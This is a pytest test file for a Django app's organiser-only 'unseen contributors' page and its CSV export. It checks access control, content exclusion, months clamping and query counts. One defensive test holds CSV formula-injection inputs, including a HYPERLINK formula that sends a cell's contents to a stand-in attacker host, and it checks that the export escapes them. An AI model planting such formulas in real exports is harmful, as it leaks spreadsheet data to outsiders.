"""The organiser's list of contributors nobody outside their team has seen, and its CSV."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from trellis.initiatives import services
from trellis.people.models import Member

UNSEEN = reverse("initiatives:unseen_contributors")
CONTRIBUTED = "Wrote the Terraform that tags every node pool with its team."
OBSERVED = "Ran the cluster upgrade and wrote its rollback plan."
HEADER = [
    "name",
    "email",
    "team",
    "discipline",
    "contributions",
    "initiatives",
    "last_contribution",
]


def rows_of(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8"))))


def join(initiative, member):
    offer = services.volunteer_offer(initiative=initiative, member=member, brings="Terraform")
    services.volunteer_accept(volunteer=offer, lead=initiative.lead)


@pytest.fixture
def unseen(contribution, ana):
    """Ana contributed and nobody has recorded seeing her work."""
    return ana


def test_members_and_anonymous_visitors_cannot_see_it(client, unseen, ana, carla):
    for someone in (ana, carla):
        client.force_login(someone.user)
        assert client.get(UNSEEN).status_code == 404
        assert client.get(UNSEEN, {"format": "csv"}).status_code == 404
    client.logout()
    response = client.get(UNSEEN)
    assert response.status_code == 302
    assert response.url.startswith(reverse("accounts:login"))


def test_the_organiser_sees_who_contributed_unseen_and_how_much(organiser_client, unseen):
    response = organiser_client.get(UNSEEN)

    assert [m.display_name for m in response.context["page"].object_list] == ["Ana Lima"]
    content = response.content.decode()
    assert "<strong>1</strong> member." in content
    assert "Ana Lima" in content
    assert "<td>Platform</td><td>Engineering</td><td>1</td><td>1</td>" in content


def test_someone_seen_from_outside_their_team_is_not_listed(organiser_client, unseen, ana, ben):
    services.observation_record(
        observer=ben, subject=ana, text=OBSERVED, seen_on=timezone.localdate()
    )

    response = organiser_client.get(UNSEEN)

    assert list(response.context["page"].object_list) == []
    assert "Nobody: everyone who contributed in this time has been seen" in (
        response.content.decode()
    )


def test_someone_seen_only_inside_their_team_is_still_listed(
    organiser_client, unseen, ana, make_member
):
    teammate = make_member(team="Platform")
    services.observation_record(
        observer=teammate, subject=ana, text=OBSERVED, seen_on=timezone.localdate()
    )

    response = organiser_client.get(UNSEEN)

    assert [m.display_name for m in response.context["page"].object_list] == ["Ana Lima"]


def test_the_page_never_shows_what_anyone_wrote(organiser_client, unseen, ana, make_member):
    services.observation_record(
        observer=make_member(team="Platform"),
        subject=ana,
        text=OBSERVED,
        seen_on=timezone.localdate(),
    )

    content = organiser_client.get(UNSEEN).content.decode()

    assert "Ana Lima" in content
    assert CONTRIBUTED not in content
    assert "git.example.org" not in content
    assert OBSERVED not in content


def test_the_csv_is_a_download_with_a_header_row(organiser_client, unseen):
    response = organiser_client.get(UNSEEN, {"format": "csv", "months": "3"})

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    day = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="unseen-contributors-3-months-{day}.csv"'
    )
    header, *rows = rows_of(response)
    assert header == HEADER
    assert rows == [["Ana Lima", "ana@example.org", "Platform", "Engineering", "1", "1", day]]


def test_the_csv_never_contains_what_anyone_wrote(organiser_client, unseen, ana, make_member):
    services.observation_record(
        observer=make_member(team="Platform"),
        subject=ana,
        text=OBSERVED,
        seen_on=timezone.localdate(),
    )

    body = organiser_client.get(UNSEEN, {"format": "csv"}).content.decode()

    assert "Ana Lima" in body
    assert CONTRIBUTED not in body
    assert "git.example.org" not in body
    assert OBSERVED not in body


@pytest.mark.parametrize(
    ("fields", "column", "cell"),
    [
        ({"name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")'}, 0, "'="),
        ({"team": "+1"}, 2, "'+1"),
        ({"team": "-2+3"}, 2, "'-2+3"),
        ({"discipline": "@SUM(A1:A9)"}, 3, "'@SUM(A1:A9)"),
        ({"discipline": "\t=1+1"}, 3, "'\t=1+1"),
        ({"discipline": "\r=1+1"}, 3, "'\r=1+1"),
    ],
)
def test_a_cell_that_would_start_a_formula_is_escaped(
    organiser_client, initiative, make_member, fields, column, cell
):
    name = fields.pop("name", "Formula Fan")
    member = make_member(name, email="formula@example.org")
    # Stored as is (a tab or CR is refused on entry now, but may predate the rule).
    if fields:
        Member.objects.filter(pk=member.pk).update(**fields)
    join(initiative, member)
    services.contribution_log(initiative=initiative, member=member, text="Wrote the query.")

    _header, *rows = rows_of(organiser_client.get(UNSEEN, {"format": "csv"}))

    [row] = [r for r in rows if r[1] == "formula@example.org"]
    assert row[column].startswith(cell)
    assert row[column] == "'" + (name if column == 0 else next(iter(fields.values())))


def test_ordinary_cells_are_not_quoted(organiser_client, unseen):
    header, row = rows_of(organiser_client.get(UNSEEN, {"format": "csv"}))

    assert header == HEADER
    assert not any(cell.startswith("'") for cell in row)


def test_the_months_are_clamped_and_a_bad_value_falls_back(organiser_client, unseen, settings):
    assert organiser_client.get(UNSEEN, {"months": "999"}).context["months"] == 60
    assert organiser_client.get(UNSEEN, {"months": "0"}).context["months"] == 1
    response = organiser_client.get(UNSEEN, {"months": "lots"})
    assert response.context["months"] == settings.UNSEEN_MONTHS


def test_the_download_link_keeps_the_months(organiser_client, unseen):
    content = organiser_client.get(UNSEEN, {"months": "4"}).content.decode()

    assert "?months=4&amp;format=csv" in content


@pytest.mark.parametrize("many", [2, 10])
def test_the_list_costs_the_same_queries_whatever_the_number_of_contributors(
    organiser_client, initiative, make_member, many, django_assert_num_queries
):
    initiative.helpers_wanted = many
    initiative.save()
    for n in range(many):
        member = make_member(team=f"Team {n}")
        join(initiative, member)
        services.contribution_log(initiative=initiative, member=member, text=f"Did part {n}.")

    # session, user, member (layout), unread count, count, members
    with django_assert_num_queries(6):
        response = organiser_client.get(UNSEEN)

    assert response.context["count"] == many


def test_the_unseen_contributors_table_scrolls_inside_a_labelled_focusable_box(
    organiser_client, unseen
):
    content = organiser_client.get(UNSEEN).content.decode()

    wrap = '<div class="table-wrap" tabindex="0" role="region" aria-label="Unseen contributors'
    assert wrap in content
    assert content.index(wrap) < content.index('<table class="unseen">')
